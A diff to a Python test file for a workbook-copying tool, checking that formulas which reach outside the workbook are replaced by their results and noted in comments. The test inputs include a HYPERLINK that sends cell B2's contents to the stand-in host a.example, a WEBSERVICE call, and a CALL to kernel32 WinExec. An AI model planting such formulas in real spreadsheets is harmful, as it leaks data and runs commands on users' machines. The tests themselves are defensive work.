@@ -170,6 +170,10 @@ REACHING_OUT = (
     "=[1]Costs!A1",
     "=SUM('file:///C:/other.xlsx'#$Costs.A1)",
     """=INDIRECT("'file:///C:/other.xlsx'#$Costs.A1")""",
+    '=IF(1,HYPERLINK("http://a.example/?"&B2,"x"),HYPERLINK("#A1","y"))',
+    '=HYPERLINK("#"&"a.example","y")',
+    "=_xlfn.MAP(B1:B2,_xlfn.WEBSERVICE)",
+    '=REDUCE("",B1:B2,HYPERLINK)',
     '=CALL("kernel32","WinExec","JJC","calc",1)',
     "=_xll.OurAddIn(A1)",
     '=RTD("x.y",,"z")',
@@ -195,11 +199,12 @@ def test_formulas_that_reach_outside_give_way_to_their_results_and_are_said(tmp_
     assert len(formulas_in(source)) == len(REACHING_OUT)
     assert formulas_in(tmp_path / "copy.xlsx") == {}
     assert lost(source, tmp_path / "copy.xlsx") == {}
+    read = {cell: formula for (_, cell), formula in formulas_in(source).items()}
     assert {note.cell: note.found for note in added.notes} == {
-        cell: f'the formula "{formula}"' for cell, (formula, _) in cells.items()
+        cell: f'the formula "{formula}"' for cell, formula in read.items()
     }
     costs = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Costs"]
-    for cell, (formula, _) in cells.items():
+    for cell, formula in read.items():
         assert formula in costs[cell].comment.text
 
 
@@ -229,6 +234,7 @@ def test_a_sheet_of_ones_own_stays_to_the_byte_and_our_cells_go_on_taking_from_i
         lambda: add_sheets(source, ["gates"], tmp_path / "copy.xlsx"),
         lambda: write_marked(source, tmp_path / "copy.xlsx"),
     ):
+        (tmp_path / "copy.xlsx").unlink(missing_ok=True)
         write()
         with zipfile.ZipFile(source) as before, zipfile.ZipFile(tmp_path / "copy.xlsx") as after:
             assert after.read(part) == before.read(part)
